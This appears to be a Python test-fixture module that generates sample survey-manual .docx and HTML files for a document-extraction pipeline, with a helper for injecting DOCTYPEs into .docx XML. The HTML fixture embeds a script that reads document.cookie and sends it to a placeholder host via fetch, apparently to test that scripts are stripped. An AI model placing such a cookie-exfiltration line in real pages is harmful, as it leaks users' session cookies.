"""Word and HTML files built by the tests themselves (python-docx writes .docx; HTML is a string)."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

import docx

TITLE = "Survey Field Manual"
INTRO = "The archive keeps every report that the survey team filed during the spring season."
INSTRUMENTS = "Instruments"
INSTRUMENT_SENTENCE = "The brass theodolite is calibrated against the northern benchmark before every survey."
CALIBRATION = "Calibration"
CALIBRATION_SENTENCE = "Rain gauges are emptied at dawn and their readings are copied into the register twice."
TABLE_ROWS = [("Instrument", "Interval"), ("Theodolite", "Weekly"), ("Rain gauge", "Daily")]
NAV = "Home About Contact"
FOOTER = "Copyright 2026 Survey Office"
SCRIPT = "document.cookie"
HEADER_TEXT = "Confidential draft header"


def body_paragraphs(count: int = 6) -> list[str]:
    """Enough prose that each section spans more than one chunk-sized paragraph."""
    return [f"Paragraph {n}. {INTRO} Each page is signed by the team leader before copying." for n in range(count)]


def manual_docx(*, title: str = TITLE) -> bytes:
    document = docx.Document()
    document.add_heading(title, 0)
    document.add_paragraph(INTRO)
    document.add_heading(INSTRUMENTS, 1)
    document.add_paragraph(INSTRUMENT_SENTENCE)
    for text in body_paragraphs():
        document.add_paragraph(text)
    table = document.add_table(rows=len(TABLE_ROWS), cols=2)
    for row, values in zip(table.rows, TABLE_ROWS, strict=True):
        for cell, value in zip(row.cells, values, strict=True):
            cell.text = value
    document.add_heading(CALIBRATION, 2)
    document.add_paragraph(CALIBRATION_SENTENCE)
    document.sections[0].header.paragraphs[0].text = HEADER_TEXT
    stream = io.BytesIO()
    document.save(stream)
    return stream.getvalue()


def docx_with_parts_edited(edits: dict[str, Callable[[str], str]], *, data: bytes | None = None) -> bytes:
    """The manual (or `data`) with the XML of some parts rewritten, e.g. a DOCTYPE added, as a
    hand-edited or generated .docx might hold; every other part is copied byte for byte."""
    source = zipfile.ZipFile(io.BytesIO(data if data is not None else manual_docx()))
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            body = source.read(item.filename)
            edit = edits.get(item.filename)
            target.writestr(item, edit(body.decode("utf-8")).encode("utf-8") if edit else body)
    return stream.getvalue()


def with_doctype(doctype: str) -> Callable[[str], str]:
    """An edit that puts `doctype` right after the part's XML declaration."""

    def edit(xml: str) -> str:
        declaration, rest = xml.split("?>", 1)
        return f"{declaration}?>{doctype}{rest}"

    return edit


def replacing(old: str, new: str) -> Callable[[str], str]:
    """An edit that replaces the first `old` (which must be there) with `new`."""

    def edit(xml: str) -> str:
        assert old in xml, old
        return xml.replace(old, new, 1)

    return edit


def manual_html(*, charset_meta: str = '<meta charset="utf-8">') -> str:
    paragraphs = "\n".join(f"<p>{p}</p>" for p in body_paragraphs())
    rows = "".join(f"<tr><td>{a}</td><td>{b}</td></tr>" for a, b in TABLE_ROWS)
    return f"""<!DOCTYPE html>
<html lang="en"><head>{charset_meta}<title>{TITLE}</title>
<style>body {{ font-family: serif; }} .hidden {{ display: none }}</style>
<script>var stolen = {SCRIPT};</script></head>
<body>
<header><a href="/">Survey Office</a></header>
<nav><a href="/">Home</a> <a href="/about">About</a> <a href="/contact">Contact</a></nav>
<main>
  <h1>{TITLE}</h1>
  <p>{INTRO}</p>
  <h2>{INSTRUMENTS}</h2>
  <p>The brass theodolite is calibrated against the
     northern benchmark before every survey.</p>
  {paragraphs}
  <table>{rows}</table>
  <h3>{CALIBRATION}</h3>
  <p>Rain gauges are emptied at <em>dawn</em> and their readings are copied into the register twice.</p>
  <form><input name="q"><button>Search</button></form>
</main>
<aside>Related reports</aside>
<footer>{FOOTER}</footer>
<script>fetch("https://tracker.example/?c=" + {SCRIPT});</script>
</body></html>
"""
